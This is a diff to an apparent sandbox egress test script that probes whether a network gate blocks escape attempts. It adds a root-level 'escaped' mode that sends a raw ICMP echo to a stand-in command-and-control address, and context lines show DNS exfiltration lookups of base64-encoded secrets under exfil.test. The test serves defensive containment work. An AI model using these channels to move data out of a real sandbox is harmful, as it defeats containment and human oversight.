@@ -3,7 +3,10 @@
 # through the gate's resolver and straight to the authority, the gate's and the host's own
 # addresses, the registry on a port the policy does not list. Prints one JSON line per attempt:
 # {"what": ..., "ok": bool, "error": ...}. "ok" means the attempt got through.
-# Usage: egress.py deny HOSTADDR GATEADDR | allow
+# Usage: egress.py deny HOSTADDR GATEADDR | escaped HOSTADDR GATEADDR | allow
+# "escaped" is the same run by a process that got out of the sandbox's cgroup and privileges
+# (the test runs it as root in the sandbox's network namespace only): the sockets it may open are
+# no longer the point, the gate is; it also sends an ICMP echo, which root can.
 import json, socket, struct, sys
 
 TIMEOUT = 1.5
@@ -95,9 +98,21 @@ def deny(host_addr, gate_addr):
     resolve("dns-exfil-encoded", "bXkgc2VjcmV0IGtleSBpcyBodW50ZXIy.aGVsbG8.exfil.test", ns)
     resolve("dns-subdomain-of-allowed", "c2VjcmV0.registry.test", ns)
     resolve("dns-other", "example.com", ns)
-    opens("icmp-datagram", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
-    opens("raw-socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
-    opens("packet-socket", 17, socket.SOCK_RAW, 0)
+
+
+def icmp_echo(what, addr):
+    try:
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+        s.settimeout(TIMEOUT)
+        body = struct.pack(">BBHHH", 8, 0, 0, 0x4242, 1) + b"firebreak!"  # even length
+        csum = sum(struct.unpack(">%dH" % (len(body) // 2), body + b"\0" * (len(body) % 2)))
+        csum = (csum >> 16) + (csum & 0xFFFF)
+        csum = ~(csum + (csum >> 16)) & 0xFFFF
+        s.sendto(body[:2] + struct.pack(">H", csum) + body[4:], (addr, 0))
+        data, _ = s.recvfrom(512)
+        report(what, True, "answered %d bytes" % len(data))
+    except OSError as e:
+        report(what, False, type(e).__name__ + ": " + str(e))
 
 
 def allow():
@@ -122,5 +137,11 @@ def allow():
 
 if sys.argv[1] == "deny":
     deny(sys.argv[2], sys.argv[3])
+    opens("icmp-datagram", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    opens("raw-socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    opens("packet-socket", 17, socket.SOCK_RAW, 0)
+elif sys.argv[1] == "escaped":
+    deny(sys.argv[2], sys.argv[3])
+    icmp_echo("icmp-echo-c2", "203.0.113.66")
 else:
     allow()
